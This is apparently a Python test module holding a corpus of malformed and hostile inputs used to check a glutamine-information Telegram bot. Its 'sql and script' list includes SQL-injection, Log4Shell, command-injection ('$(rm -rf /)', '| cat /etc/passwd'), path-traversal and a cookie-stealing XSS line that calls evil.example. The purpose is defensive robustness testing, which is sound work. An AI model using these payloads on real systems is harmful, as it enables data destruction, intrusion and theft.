# ruff: noqa: RUF001 - look-alike characters (fullwidth, math bold, curly quotes) are the point
"""A corpus of hostile inputs: what people (and scripts) may send a public bot.

Shared by the core tests, the `ask` test, the Telegram test and `bench/reliability.py`,
so every path is tried on the same inputs. Built in code rather than kept in a text file:
NUL, lone surrogates, CR and line separators do not survive a line-based file.

`BLANK` inputs have nothing readable in them (the core must say it got nothing);
`SAME_AS` maps a noisy input to the plain question it must be answered like.
"""

from __future__ import annotations

import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]  # the checkout

QUESTION = "how much glutamine should I take"
EMERGENCY = "I have chest pain"
REFERRAL = "I'm pregnant, can I take glutamine"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One input: its category (for the figures) and the text sent."""

    category: str
    text: str

    @property
    def utf8_safe(self) -> bool:
        """Say whether the text can travel as UTF-8 (lone surrogates cannot)."""
        try:
            self.text.encode("utf-8")
        except UnicodeEncodeError:
            return False
        return True


BLANK = {
    "empty": ["", " ", "   ", "\t", "\n", "\r\n", " \n \n ", "\x0b\x0c", "\t \t"],
    "unicode spaces": ["\u00a0", "\u3000", "\u2003\u2009\u200a", "\u2028", "\u2029", "\u205f"],
    "control": [
        "\x00",
        "\x00" * 64,
        "\x01\x02\x03\x04",
        "\x07\x07\x07",
        "\x08" * 20,
        "\x7f",
        "\x85",
        "\x1c\x1d\x1e\x1f",
        "\r",
    ],
    "zero width": ["\u200b", "\u200b\u200c\u200d\u2060", "\ufeff", "\u00ad" * 10, "\u2062\u2063"],
    "bidi": ["\u202e", "\u202e\u202d\u202c", "\u2066\u2067\u2068\u2069", "\u200f\u200e", "\u061c"],
    "combining": ["\u0301", "\u0301" * 50, "\u20dd\u20de", "\u0489" * 10],
    "emoji": [
        "😀",
        "💊" * 50,
        "👍🏽",
        "👨\u200d👩\u200d👧\u200d👦",
        "🇺🇸🇫🇷🇯🇵",
        "🏳️\u200d🌈",
        "❤️",
        "🤒🤕🤢🤮",
        "🫠🫥🫨",
    ],
    "punctuation": ["?", "???", "!!!", "...", "-_-", "¿¡", "“”‘’", "()[]{}", "…", "·•·"],
}

NOISY = {
    "control": [
        "\x1b[2J\x1b[H",
        "\x9b31m",
        "what is\x00 glutamine",
        "glutamine\x07\x08 dose",
        "\x1b[31mwhat is leaky gut\x1b[0m",
    ],
    "zero width": [
        "glu\u200btamine",
        "what\u200c is\u200d leaky\u2060 gut",
        "\ufeffwhat is glutamine",
        "gluta\u00admine side effects",
    ],
    "bidi": [
        "\u202ewhat is glutamine",
        "how much glutamine\u202e?",
        "\u2067what is leaky gut\u2069",
        "\u200fis glutamine safe\u200e",
    ],
    "combining": [
        "Z\u0324\u032c\u0326a\u0321\u0326l\u0336\u032fg\u0336o\u034f glutamine",
        "a" + "\u0301" * 100,
        "g\u0308lutamine",
        "gl\u0075\u0308tamine",
        "cafe\u0301 glutamine",
    ],
    "emoji": [
        "1\ufe0f\u20e3",
        "😀 glutamine 😀",
        "💊 how much glutamine should I take 💊",
        "what is leaky gut 🤔🤔🤔",
        "💩" * 1000,
    ],
    "mixed scripts": [
        "что такое глутамин",
        "谷氨酰胺是什么",
        "グルタミンとは何ですか",
        "ما هو الجلوتامين",
        "מה זה גלוטמין",
        "ग्लूटामाइन क्या है",
        "글루타민이 뭐예요",
        "τι είναι η γλουταμίνη",
        "glutamine คืออะไร",
        "what is ग्लूटामाइन",
        "wh\u0430t is glut\u0430mine",
        "ｗｈａｔ ｉｓ ｇｌｕｔａｍｉｎｅ",
        "𝐰𝐡𝐚𝐭 𝐢𝐬 𝐠𝐥𝐮𝐭𝐚𝐦𝐢𝐧𝐞",
        "𝕘𝕝𝕦𝕥𝕒𝕞𝕚𝕟𝕖",
        "ⓖⓛⓤⓣⓐⓜⓘⓝⓔ",
        "İS GLUTAMİNE SAFE",
        "Glutaminmaß",
        "ﬁsh oil and glutamine",
        "Glutamin – was ist das?",
        "ᴡʜᴀᴛ ɪs ɢʟᴜᴛᴀᴍɪɴᴇ",
    ],
    "html": [
        "<b>bold</b>",
        "</b>",
        "<i>",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "&amp;",
        "&lt;b&gt;",
        "&",
        "&#0;",
        "&#x110000;",
        "<a href='javascript:alert(1)'>x</a>",
        "<blockquote>",
        "<tg-spoiler>secret</tg-spoiler>",
        "<pre><code class='language-python'>",
        "<<<>>>",
        "<b><i></b></i>",
        "<!-- comment -->",
        "<![CDATA[x]]>",
        "<?xml version='1.0'?>",
        "<svg onload=alert(1)>",
        "&nbsp;&nbsp;",
        "<br>",
        "</blockquote></pre></code>",
        "<b>how much glutamine should I take</b>",
        "<u>what is leaky gut</u>",
        "<a href='tg://user?id=1'>what is glutamine</a>",
    ],
    "markdown": [
        "**bold**",
        "__init__",
        "`code`",
        "```\ncode\n```",
        "[link](http://evil.example)",
        "*_~|>",
        "||spoiler||",
        "# heading",
        "> quote",
        "\\*escaped\\*",
        "![img](x)",
        "_how much glutamine should I take_",
        "~~strike~~",
        "_*[]()~`>#+-=|{}.!",
        "**what is leaky gut**",
    ],
    "sql and script": [
        "'; DROP TABLE users; --",
        "1 OR 1=1",
        '" OR ""="',
        "admin'--",
        "UNION SELECT password FROM users",
        "'; EXEC xp_cmdshell('dir'); --",
        "javascript:alert(1)",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "{% raw %}",
        "<%= 7*7 %>",
        "$(rm -rf /)",
        "`rm -rf /`",
        "; ls -la",
        "| cat /etc/passwd",
        "../../../../etc/passwd",
        "__import__('os').system('ls')",
        "eval('1+1')",
        "%0d%0aSet-Cookie: x=y",
        "glutamine' OR '1'='1",
        "SELECT * FROM knowledge WHERE id = 'dosage'",
        "<script>fetch('//evil.example?c='+document.cookie)</script>",
    ],
    "format strings": [
        "%s",
        "%d",
        "%s%s%s%s%s%s%s%s",
        "%(question)s",
        "%n%n%n%n",
        "{0}",
        "{}",
        "{question}",
        "{0.__class__}",
        "{.__init__.__globals__}",
        "${x}",
        "$x",
        "#{x}",
        "{{}}",
        "%-1000000s",
        "%.*f",
        "%(name)r glutamine",
        "AAAA%08x.%08x.%08x",
    ],
    "long": [
        "a" * 4096,
        "a" * 4097,
        "a" * 10_000,
        "glutamine " * 500,
        (QUESTION + "? ") * 150,
        "x" * 5000,
        "glutamine" * 600,
        "<b>" * 2000,
        "&" * 5000,
        "😀" * 4096,
        "谷" * 4096,
        "e\u0301" * 3000,
        " ".join(["pneumonoultramicroscopicsilicovolcanoconiosis"] * 100),
        QUESTION + " " + "z" * 4000,
        "w" * 100 + " what is leaky gut",
    ],
    "newlines": [
        "what is glutamine\nhow much should I take",
        "\n\n\nwhat is leaky gut\n\n",
        "line one\r\nline two",
        "what is\rglutamine",
        "a\u2028b",
        "question\n" * 50,
        "what is leaky gut\x85and glutamine",
    ],
    "telegram": [
        "/start",
        "/start <b>",
        "/start " + "x" * 200,
        "/start e:dosage",
        "/unknown",
        "/help@glutamine_test_bot",
        "@glutamine_test_bot what is glutamine",
        "/topics%s",
        "/",
        "//",
        "/start@other_bot",
    ],
    "numbers": [
        "0",
        "-1",
        "1e309",
        "NaN",
        "Infinity",
        "9" * 5000,
        "2.5e-10 g",
        "0x41",
        "١٢٣",
        "½ teaspoon",
        "Ⅻ grams",
        "10000000000000000000000 g of glutamine",
        "can I take -5 g of glutamine",
    ],
    "unicode edge": [
        "\ud800",
        "what is glutamine\udfff",
        "\U0010ffff",
        "\ue000\ue001",
        "\ufffe\uffff",
        "\ufffd\ufffd",
        "\U000e0041\U000e0042",
        "\u3164",
        "\u2800",
        "\u115f\u1160",
    ],
    "safety through noise": [
        "I have che\u200bst pain",
        "<b>I have chest pain</b>",
        "I have chest\u00a0pain",
        "I HAVE CHEST PAIN!!!",
        "\u202eI have chest pain",
        "💔 I have chest pain 💔",
        "my child swallowed the glutamine powder\x00",
        "I'm pregnant, can I take glutamine? 🤰",
        "%s I'm pregnant, can I take glutamine {0}",
    ],
}

# Noisy inputs that must get exactly the reply of the plain text on the right.
SAME_AS = {
    "<b>how much glutamine should I take</b>": QUESTION,
    "_how much glutamine should I take_": QUESTION,
    "💊 how much glutamine should I take 💊": QUESTION,
    "how much glutamine\u202e?": "how much glutamine?",
    "glu\u200btamine": "glutamine",
    "\ufeffwhat is glutamine": "what is glutamine",
    "\u202ewhat is glutamine": "what is glutamine",
    "what\u200c is\u200d leaky\u2060 gut": "what is leaky gut",
    "\u2067what is leaky gut\u2069": "what is leaky gut",
    "<u>what is leaky gut</u>": "what is leaky gut",
    "**what is leaky gut**": "what is leaky gut",
    "ｗｈａｔ ｉｓ ｇｌｕｔａｍｉｎｅ": "what is glutamine",
    "𝐰𝐡𝐚𝐭 𝐢𝐬 𝐠𝐥𝐮𝐭𝐚𝐦𝐢𝐧𝐞": "what is glutamine",
    "I have che\u200bst pain": EMERGENCY,
    "<b>I have chest pain</b>": EMERGENCY,
    "I have chest\u00a0pain": EMERGENCY,
    "I HAVE CHEST PAIN!!!": EMERGENCY,
    "\u202eI have chest pain": EMERGENCY,
    "💔 I have chest pain 💔": EMERGENCY,
    "I'm pregnant, can I take glutamine? 🤰": REFERRAL,
    "%s I'm pregnant, can I take glutamine {0}": REFERRAL,
}


def corpus() -> list[Hostile]:
    """Return every hostile input, blank ones first, each tagged with its category."""
    inputs = [Hostile(category, text) for category, texts in BLANK.items() for text in texts]
    inputs += [Hostile(category, text) for category, texts in NOISY.items() for text in texts]
    return inputs


def is_blank(text: str) -> bool:
    """Say whether the input is one of the BLANK ones (nothing readable in it)."""
    return any(text in texts for texts in BLANK.values())


def stdin_lines(text: str) -> list[str]:
    r"""Return the questions `ask` reads from this input written to stdin plus "\n".

    stdin splits at "\n" only (CR, NEL and U+2028 stay inside a line), and `ask` strips
    trailing CR and LF from each line.
    """
    return [line.rstrip("\r") for line in text.split("\n")]


def ask_json(inputs: list[str]) -> subprocess.CompletedProcess[str]:
    """Run one `python -m bot ask --json` over the inputs, one per stdin line."""
    return subprocess.run(  # our own interpreter running our own module
        [sys.executable, "-m", "bot", "ask", "--json"],
        cwd=ROOT,
        env={**os.environ, "TELEGRAM_BOT_TOKEN": "", "CONTENT_DIR": "", "PYTHONUTF8": "1"},
        input="".join(text + "\n" for text in inputs),
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=120,
        check=False,
    )
